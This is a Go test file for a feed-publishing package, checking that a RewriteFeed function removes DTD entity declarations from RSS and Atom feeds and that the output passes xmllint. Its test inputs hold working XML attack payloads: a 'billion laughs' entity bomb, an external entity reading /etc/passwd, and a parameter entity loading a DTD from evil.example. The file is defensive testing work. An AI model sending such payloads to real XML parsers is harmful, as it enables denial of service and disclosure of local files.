package publish

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
)

// TestRewriteFeedDefusesDTD: a DOCTYPE whose internal subset declares
// entities (a "billion laughs" bomb, external entities, parameter
// entities) is not passed on to subscribers: the subset is removed,
// references to its entities become what feed.Parse read (literal text,
// or the character an HTML entity name stands for), and the republished
// feed is well-formed for xmllint. Everything else, an external ID and a
// subset without entity declarations included, is kept byte for byte.
func TestRewriteFeedDefusesDTD(t *testing.T) {
	laughs := "<!DOCTYPE rss [\n <!ENTITY lol \"lol\">\n <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n" +
		" <!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">\n]>\n"
	item := func(guid string) string {
		return `<item><guid>` + guid + `</guid><enclosure url="https://cdn.example/ep1.mp3" type="audio/mpeg" length="1"/>` +
			oneLine("podcast", "", alt1) + `</item>`
	}
	bare := func(guid string) string {
		return `<item><guid>` + guid + `</guid><enclosure url="https://cdn.example/ep1.mp3" type="audio/mpeg" length="1"/></item>`
	}
	tests := []struct {
		name, in, want string
		guid           string // alt1's GUID as feed.Parse reads the item
	}{
		{
			name: "billion laughs",
			in:   `<?xml version="1.0"?>` + "\n" + laughs + `<rss version="2.0"><channel><title>&lol2;</title>` + bare("ep-1") + `</channel></rss>`,
			want: `<?xml version="1.0"?>` + "\n<!DOCTYPE rss>\n" + `<rss version="2.0" ` + ns + `><channel><title>&amp;lol2;</title>` + item("ep-1") + `</channel></rss>`,
			guid: "ep-1",
		},
		{
			name: "external entity in text and attribute, GUID matched literally",
			in:   `<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss a="&xxe;"><channel>` + bare("&xxe;-1") + `<x><![CDATA[&xxe;]]><!-- &xxe; --></x></channel></rss>`,
			want: `<!DOCTYPE rss><rss a="&amp;xxe;" ` + ns + `><channel>` + item("&amp;xxe;-1") + `<x><![CDATA[&xxe;]]><!-- &xxe; --></x></channel></rss>`,
			guid: "&xxe;-1",
		},
		{
			name: "HTML entity declared, parameter entity, external ID kept",
			in: `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" [` +
				"\n" + `<!ENTITY nbsp "&#160;"><!ENTITY % ext SYSTEM "https://evil.example/x.dtd"> %ext; <!ENTITY q "]>">` + "\n]>" +
				`<rss><channel><title>a&nbsp;b &amp; &q;</title>` + bare("ep-1") + `</channel></rss>`,
			want: `<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">` +
				`<rss ` + ns + `><channel><title>a&#xA0;b &amp; &amp;q;</title>` + item("ep-1") + `</channel></rss>`,
			guid: "ep-1",
		},
		{
			name: "ISO-8859-1",
			in:   "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!DOCTYPE rss [<!ENTITY e \"\xe9\">]><rss><channel><title>caf\xe9 &e;</title>" + bare("ep-1") + `</channel></rss>`,
			want: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><!DOCTYPE rss><rss " + ns + "><channel><title>caf\xe9 &amp;e;</title>" + item("ep-1") + `</channel></rss>`,
			guid: "ep-1",
		},
		{
			name: "Atom is defused too",
			in:   `<!DOCTYPE feed [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><feed xmlns="http://www.w3.org/2005/Atom"><title>&b;</title></feed>`,
			want: `<!DOCTYPE feed><feed xmlns="http://www.w3.org/2005/Atom"><title>&amp;b;</title></feed>`,
		},
		{
			name: "no entity declarations: kept",
			in:   `<!DOCTYPE rss [<!ELEMENT rss ANY>]><rss><channel><title>&amp;</title>` + bare("ep-1") + `</channel></rss>`,
			want: `<!DOCTYPE rss [<!ELEMENT rss ANY>]><rss ` + ns + `><channel><title>&amp;</title>` + item("ep-1") + `</channel></rss>`,
			guid: "ep-1",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := alt1
			a.GUID = tt.guid
			got, err := RewriteFeed([]byte(tt.in), []Alternate{a})
			if err != nil {
				t.Fatal(err)
			}
			if string(got) != tt.want {
				t.Errorf("got\n%s\nwant\n%s", got, tt.want)
			}
			if strings.Contains(tt.name, "kept") {
				return
			}
			if bytes.Contains(got, []byte("<!ENTITY")) {
				t.Errorf("entity declaration passed on: %s", got)
			}
			if err := xmllintStrict(t, got); err != nil {
				t.Errorf("xmllint: %v\n%s", err, got)
			}
		})
	}
}

// xmllintStrict runs xmllint --noout --nonet on doc; it skips the check
// when xmllint is missing, except in CI (CI=true), where it fails.
func xmllintStrict(t *testing.T, doc []byte) error {
	t.Helper()
	lint, err := exec.LookPath("xmllint")
	if err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("xmllint not on PATH (required when CI=true)")
		}
		t.Log("xmllint not on PATH; skipping that check")
		return nil
	}
	cmd := exec.Command(lint, "--noout", "--nonet", "-")
	cmd.Stdin = bytes.NewReader(doc)
	if msg, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("%w: %s", err, msg)
	}
	return nil
}
